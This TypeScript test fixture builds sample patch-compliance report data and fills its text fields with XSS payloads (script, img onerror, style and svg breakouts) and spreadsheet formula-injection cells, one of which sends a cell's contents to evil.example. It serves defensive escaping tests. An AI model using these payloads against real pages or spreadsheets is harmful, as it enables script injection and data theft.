import type {
  ComplianceReportData,
  ReportGroup,
  ReportGroupDimension,
  ReportServer,
} from '../../src/report/index.js';

/**
 * Strings that break out of HTML text, attributes, `<style>` and `<script>` if not escaped. Each
 * sets `window.__pwned` if it ever runs, which the browser test checks.
 */
export const HOSTILE = {
  script: '<script>window.__pwned="script"</script>',
  img: '"><img src=x onerror="window.__pwned=\'img\'">',
  style: '</style><script>window.__pwned="style"</script>',
  json: '</script><!--<script>window.__pwned="json"</script>',
  svg: '<svg onload="window.__pwned=\'svg\'"></svg>',
} as const;

/** Cells a spreadsheet would evaluate as formulas. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+1+2',
  '-3',
  '@SUM(1)',
  '\tcmd',
  '\rcmd',
];

type ServerSeed = Omit<ReportServer, 'provider' | 'accountId'> & {
  provider?: string;
  accountId?: string;
  project: string;
};

/** Tallies groups and totals from the servers, so fixtures are consistent by construction. */
export function buildReport(
  servers: ServerSeed[],
  rest: Pick<ComplianceReportData, 'patches'> & Partial<ComplianceReportData>,
): ComplianceReportData {
  const groups: ReportGroup[] = [];
  const add = (by: ReportGroupDimension, key: string | undefined, status: ReportServer['status']) => {
    if (key === undefined) return;
    let g = groups.find((x) => x.by === by && x.key === key);
    if (!g) {
      g = { by, key, total: 0, compliant: 0, nonCompliant: 0, unknown: 0 };
      groups.push(g);
    }
    g.total++;
    if (status === 'compliant') g.compliant++;
    else if (status === 'non-compliant') g.nonCompliant++;
    else g.unknown++;
  };
  const rows: ReportServer[] = servers.map(({ project, ...s }) => {
    const row: ReportServer = { ...s, provider: s.provider ?? 'aws', accountId: s.accountId ?? 'acct-prod' };
    add('project', project, row.status);
    add('account', row.accountId, row.status);
    add('region', row.region, row.status);
    add('provider', row.provider, row.status);
    add('os', row.os, row.status);
    return row;
  });
  const count = (status: ReportServer['status']) => rows.filter((s) => s.status === status).length;
  return {
    title: 'Patch compliance report',
    scope: { kind: 'tenant', id: 'tn-acme', name: 'Acme Corp' },
    tenant: { id: 'tn-acme', name: 'Acme Corp' },
    generatedAt: '2025-06-30T09:15:00Z',
    standards: [
      {
        id: 'sec-14d',
        name: 'Security updates within 14 days',
        description: 'Every security update is installed within 14 days of release.',
      },
      {
        id: 'scan-24h',
        name: 'Scanned daily',
        description: 'Every server reported its pending updates in the last 24 hours.',
      },
    ],
    totals: {
      servers: rows.length,
      compliant: count('compliant'),
      nonCompliant: count('non-compliant'),
      unknown: count('unknown'),
    },
    groups,
    servers: rows,
    ...rest,
  };
}

const scanned = '2025-06-30T06:00:00Z';

/** A realistic, mostly benign report (one hostile server and package) for the screenshot. */
export function sampleReport(): ComplianceReportData {
  const s = (
    id: string,
    name: string,
    project: string,
    status: ReportServer['status'],
    extra: Partial<ServerSeed> = {},
  ): ServerSeed => ({
    id,
    name,
    project,
    status,
    alert: false,
    reasons: [],
    pending: 0,
    security: 0,
    region: 'eu-west-1',
    os: 'Debian 12',
    lastScannedAt: scanned,
    lastUpdatedAt: '2025-06-21T02:00:00Z',
    ...extra,
  });
  const servers: ServerSeed[] = [
    s('srv-web-01', 'web-01.acme.example', 'Storefront', 'compliant'),
    s('srv-web-02', 'web-02.acme.example', 'Storefront', 'compliant', { pending: 2 }),
    s('srv-web-03', 'web-03.acme.example', 'Storefront', 'non-compliant', {
      alert: true,
      pending: 5,
      security: 3,
      reasons: ['openssl security update pending for 21 days (limit 14)', 'Reboot required since 2025-06-10'],
    }),
    s('srv-db-01', 'db-01.acme.example', 'Storefront', 'compliant', { os: 'Ubuntu 24.04', pending: 1 }),
    s('srv-api-01', 'api-01.acme.example', 'Payments API', 'compliant', {
      region: 'us-east-1',
      accountId: 'acct-payments',
      os: 'RHEL 9',
    }),
    s('srv-api-02', 'api-02.acme.example', 'Payments API', 'non-compliant', {
      region: 'us-east-1',
      accountId: 'acct-payments',
      os: 'RHEL 9',
      pending: 3,
      security: 1,
      reasons: ['kernel security update pending for 17 days (limit 14)'],
    }),
    s('srv-api-03', 'api-03.acme.example', 'Payments API', 'unknown', {
      region: 'us-east-1',
      accountId: 'acct-payments',
      os: undefined,
      lastScannedAt: '2025-06-26T06:00:00Z',
      lastUpdatedAt: undefined,
      reasons: ['Not scanned in the last 24 hours'],
    }),
    s('srv-build-01', HOSTILE.script, 'Internal tools', 'non-compliant', {
      provider: 'ssh',
      accountId: 'acct-onprem',
      region: undefined,
      os: 'SLES 15 SP6',
      alert: true,
      pending: 4,
      security: 2,
      reasons: [HOSTILE.img, 'glibc security update pending for 30 days (limit 14)'],
    }),
    s('srv-mon-01', 'monitoring.acme.example', 'Internal tools', 'compliant', {
      provider: 'ssh',
      accountId: 'acct-onprem',
      region: undefined,
      os: 'Debian 12',
    }),
    s('srv-vpn-01', 'vpn-gw.acme.example', 'Internal tools', 'compliant', {
      provider: 'azure',
      accountId: 'acct-corp',
      region: 'westeurope',
      os: 'Ubuntu 24.04',
    }),
  ];
  return buildReport(servers, {
    patches: [
      {
        serverId: 'srv-web-03',
        serverName: 'web-03.acme.example',
        name: 'openssl',
        installedVersion: '3.0.15-1~deb12u1',
        candidateVersion: '3.0.16-1~deb12u1',
        category: 'security',
        severity: 'high',
        firstSeenAt: '2025-06-09T06:00:00Z',
        advisories: ['DSA-5920-1', 'CVE-2025-1234'],
      },
      {
        serverId: 'srv-web-03',
        serverName: 'web-03.acme.example',
        name: 'linux-image-amd64',
        installedVersion: '6.1.135-1',
        candidateVersion: '6.1.140-1',
        category: 'security',
        severity: 'critical',
        ageDays: 12,
        advisories: ['DSA-5930-1'],
      },
      {
        serverId: 'srv-web-03',
        serverName: 'web-03.acme.example',
        name: 'tzdata',
        installedVersion: '2025a-0+deb12u1',
        candidateVersion: '2025b-0+deb12u1',
        category: 'bugfix',
        severity: 'low',
        ageDays: 3,
        advisories: [],
      },
      {
        serverId: 'srv-api-02',
        serverName: 'api-02.acme.example',
        name: 'kernel',
        installedVersion: '5.14.0-503.38.1.el9_5',
        candidateVersion: '5.14.0-503.40.1.el9_5',
        category: 'security',
        severity: 'Important',
        ageDays: 17,
        advisories: ['RHSA-2025:4321'],
      },
      {
        serverId: 'srv-api-02',
        serverName: 'api-02.acme.example',
        name: 'kernel-modules-core',
        installedVersion: null,
        candidateVersion: '5.14.0-503.40.1.el9_5',
        category: 'security',
        severity: 'Important',
        ageDays: 17,
        advisories: ['RHSA-2025:4321'],
      },
      {
        serverId: 'srv-build-01',
        serverName: HOSTILE.script,
        name: HOSTILE.style,
        installedVersion: '2.38-150600.14.8.1',
        candidateVersion: '2.38-150600.14.17.2',
        category: 'security',
        severity: 'moderate',
        ageDays: 30,
        advisories: ['SUSE-SU-2025:0123-1'],
      },
    ],
  });
}

/** Hostile strings in every free-text field the report shows. */
export function hostileReport(): ComplianceReportData {
  const base = sampleReport();
  const servers = base.servers.map((s, i) => ({
    ...s,
    name: Object.values(HOSTILE)[i % 5]!,
    os: HOSTILE.svg,
    region: HOSTILE.style,
    reasons: Object.values(HOSTILE),
  }));
  const data = buildReport(
    servers.map((s) => ({ ...s, project: HOSTILE.json })),
    {
      title: HOSTILE.script,
      scope: { kind: 'project', id: HOSTILE.img, name: HOSTILE.style },
      tenant: { id: 'tn-x', name: HOSTILE.json },
      standards: [{ id: HOSTILE.svg, name: HOSTILE.script, description: HOSTILE.img }],
      patches: base.patches.map((p) => ({
        ...p,
        serverName: HOSTILE.img,
        name: HOSTILE.script,
        installedVersion: HOSTILE.style,
        candidateVersion: HOSTILE.json,
        category: HOSTILE.svg,
        severity: HOSTILE.img,
        advisories: Object.values(HOSTILE),
      })),
    },
  );
  return data;
}
